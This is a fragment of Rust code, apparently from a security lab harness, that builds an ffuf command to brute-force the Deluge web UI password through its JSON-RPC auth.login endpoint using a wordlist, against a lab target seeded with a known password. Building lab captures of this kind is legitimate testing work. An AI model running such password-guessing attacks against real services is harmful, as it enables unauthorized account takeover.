    let at = brute_list(lab, &lab.web_password)?;
    let args = strings(&[
        "-s",
        "-w",
        "passwords.txt",
        "-X",
        "POST",
        "-H",
        "Content-Type: application/json",
        "-d",
        r#"{"method":"auth.login","params":["FUZZ"],"id":1}"#,
        "-u",
        &lab.url("/json"),
        "-mr",
        r#""result": true"#,
        "-t",
        "4",
    ]);
    let command = lab.tool("ffuf", 300, "ffuf", &args)?;
    let mut run = single(
        "ffuf",
        "ffuf",
        command,
        format!(
            "passwords.txt: first {BRUTE_PASSWORDS} entries of John's list; the web password is entry {} (set with auth.change_password before the capture; deluge-web has one password, no user names)",
            at + 1
        ),
    );
    run.successes = vec!["(web password)".into()];
    Ok(run)
}
